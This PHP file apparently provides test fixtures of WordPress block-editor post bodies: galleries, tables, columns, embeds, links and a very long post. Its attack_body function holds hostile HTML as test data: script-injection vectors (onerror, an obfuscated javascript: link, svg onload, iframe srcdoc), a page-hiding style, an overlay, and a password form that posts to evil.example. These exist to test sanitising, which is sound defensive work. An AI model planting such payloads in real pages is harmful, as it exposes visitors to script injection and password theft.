<?php
/**
 * Texts of nasty posts, as the block editor stores them.
 */

/** HTML that an administrator may store, and a page must not run. */
function attack_body() {
	return p( 'Before.' ) . block(
		'html',
		'<script>alert(1)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a>'
		. '<a href=" java&#x0A;script:alert(1)">click too</a><style>body{display:none}</style>'
		. '<svg onload="alert(1)"></svg><iframe srcdoc="<script>alert(1)</script>"></iframe>'
		. '<form action="https://evil.example/"><input name="password"></form><p style="position:fixed;inset:0">Over all.</p>'
	) . p( 'After.' );
}

/** About 200 kB of HTML. */
function long_body() {
	$body = '';
	for ( $chapter = 1; strlen( $body ) < 200000; $chapter++ ) {
		$body .= heading( 'Chapter ' . $chapter ) . prose( $chapter );
	}
	return $body;
}

/** @param string $kind `more` or `nextpage` */
function paging( $kind ) {
	return block( $kind, "<!--{$kind}-->" );
}

function gallery_body() {
	global $media;
	$images = image( $media['big'], 'One' ) . image( $media['tiny'], 'Two' ) . image( $media['alt'], 'Three' );
	$figure = '<figure class="wp-block-gallery has-nested-images columns-default is-cropped">' . $images . '</figure>';
	return block( 'gallery', $figure, array( 'linkTo' => 'none' ) )
		. block( 'html', '<img src="https://images.example.com/foreign.jpg" width="400" height="300" alt="Foreign">' );
}

function table_body() {
	return block(
		'table',
		'<figure class="wp-block-table"><table><thead><tr><th>Wood</th><th>€</th></tr></thead><tbody><tr><td>Oak</td><td>12</td></tr>'
		. '<tr><td colspan="2">Wide &amp; low</td></tr></tbody></table><figcaption class="wp-element-caption">Prices</figcaption></figure>'
	);
}

function columns_body() {
	$column = block( 'column', '<div class="wp-block-column">' . p( 'A column.' ) . '</div>' );
	$link   = '<a class="wp-block-button__link wp-element-button" href="' . home_url( '/contact/' ) . '">Write</a>';
	$button = '<div class="wp-block-button">' . $link . '</div>';
	return block( 'columns', '<div class="wp-block-columns">' . $column . $column . '</div>' )
		. block( 'buttons', '<div class="wp-block-buttons">' . block( 'button', $button ) . '</div>' );
}

function code_body() {
	return block( 'quote', '<blockquote class="wp-block-quote">' . p( 'Less is <em>more</em>.' ) . '<cite>Somebody</cite></blockquote>' )
		. block( 'code', '<pre class="wp-block-code"><code>if (a &lt; b &amp;&amp; c) { return "&lt;script&gt;"; }</code></pre>' )
		. block( 'list', '<ul class="wp-block-list">' . block( 'list-item', '<li>One</li>' ) . block( 'list-item', '<li>Two</li>' ) . '</ul>' );
}

function embed_body() {
	$url = 'https://www.youtube.com/watch?v=dQw4w9WgXcQ';
	return block(
		'embed',
		'<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio">'
		. "<div class=\"wp-block-embed__wrapper\">\n{$url}\n</div></figure>",
		array( 'url' => $url, 'type' => 'video', 'providerNameSlug' => 'youtube', 'responsive' => true )
	);
}

function links_body() {
	global $media;
	$links = array(
		'absolute'        => home_url( '/seed/ordinary-post-1/' ),
		'relative'        => '/seed/ordinary-post-2/',
		'without slash'   => home_url( '/seed/ordinary-post-3' ),
		'with fragment'   => home_url( '/seed/ordinary-post-4/#more' ),
		'plain permalink' => home_url( '/?p=' . $media['big'] ),
		'unicode'         => home_url( '/seed/' . rawurlencode( '日本語だけのタイトル' ) . '/' ),
		'home'            => home_url(),
		'category'        => home_url( '/seed/asia/' ),
		'feed'            => home_url( '/feed/' ),
		'administration'  => admin_url(),
		'file'            => wp_get_attachment_url( $media['big'] ),
		'old slug'        => home_url( '/seed/first-name/' ),
		'foreign'         => 'https://example.com/?a=1&amp;b=2',
		'telephone'       => 'tel:+49301234',
		'nowhere'         => home_url( '/does-not-exist/' ),
	);
	$body  = '';
	foreach ( $links as $text => $url ) {
		$body .= p( "<a href=\"{$url}\">{$text}</a>" );
	}
	return $body;
}
